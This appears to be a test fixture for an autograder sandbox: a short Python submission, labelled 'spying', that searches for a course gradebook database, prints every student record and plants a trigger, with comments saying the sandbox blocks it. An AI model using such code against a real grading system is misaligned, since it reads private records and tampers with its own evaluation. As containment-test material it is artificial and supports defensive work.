# tries: to read the gradebook, to give itself points in it, and to plant a trigger
# kind: spying
# earns: 0
# verdict: any
# contained by: sandbox: the gradebook is not there
# without sandbox: finds

# %% double
import sqlite3

for path in ("@COURSE@/gradebook.db", "../../../gradebook.db", "gradebook.db"):
    try:
        book = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        print(book.execute("select * from student").fetchall())
        book.execute("create trigger more after insert on student begin update student set id = id; end")
        book.commit()
    except sqlite3.Error:
        pass
